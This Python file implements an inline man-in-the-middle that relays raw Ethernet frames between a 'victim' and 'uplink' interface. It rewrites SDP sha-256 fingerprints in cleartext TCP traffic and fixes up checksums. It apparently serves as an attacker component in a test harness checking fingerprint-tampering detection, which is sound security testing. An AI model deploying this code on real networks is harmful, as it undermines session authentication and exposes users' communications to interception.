# SPDX-License-Identifier: GPL-2.0-or-later
"""An attacker in the cable between a host and the switch: passes every frame on, and changes fingerprints in the clear
text that goes towards the host, in place: same connection, same lengths, other bytes."""

import asyncio
import re
import socket
import struct

from line import serve, tell

ETH_P_ALL = 3
PATTERN = re.compile(rb"(a=fingerprint:sha-256 )([0-9A-Fa-f:]+)")
CHANGED = 0


def attach(name):
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    port.bind((name, 0))
    port.setblocking(False)
    return port


def change(payload):
    """Every digit of a fingerprint becomes another one. Applied twice to the same bytes it gives the same."""
    def other(match):
        return match[1] + match[2].translate(bytes.maketrans(b"0123456789ABCDEFabcdef", b"123456789ABCDEF0bcdefa"))
    return PATTERN.sub(other, payload)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data[:len(data) & ~1])) + (data[-1] << 8 if len(data) % 2 else 0)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def edit(frame):
    """The frame with altered fingerprints, when it is TCP over IPv4 and has any."""
    global CHANGED
    if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return frame
    tcp = 14 + (frame[14] & 15) * 4
    end = 14 + struct.unpack_from("!H", frame, 16)[0]
    start = tcp + (frame[tcp + 12] >> 4) * 4
    payload = change(frame[start:end])
    if payload == frame[start:end]:
        return frame
    CHANGED += 1
    segment = bytearray(frame[tcp:start] + payload)
    segment[16:18] = b"\0\0"
    pseudo = frame[26:34] + struct.pack("!BBH", 0, 6, len(segment))
    struct.pack_into("!H", segment, 16, checksum(pseudo + bytes(segment)))
    return frame[:tcp] + bytes(segment) + frame[end:]


def passing(source, target, alter):
    def move():
        try:
            frame, where = source.recvfrom(65535)
            if where[2] != socket.PACKET_OUTGOING:
                target.send(alter(frame))
        except (BlockingIOError, OSError):
            pass
    return move


async def main():
    victim, uplink = attach("victim"), attach("uplink")
    loop = asyncio.get_running_loop()
    loop.add_reader(victim, passing(victim, uplink, lambda frame: frame))
    loop.add_reader(uplink, passing(uplink, victim, edit))

    async def report():
        return {"changed": CHANGED, "log": []}

    async def leave():
        pass

    tell("ready")
    await serve({"report": report, "quit": leave})


asyncio.run(main())
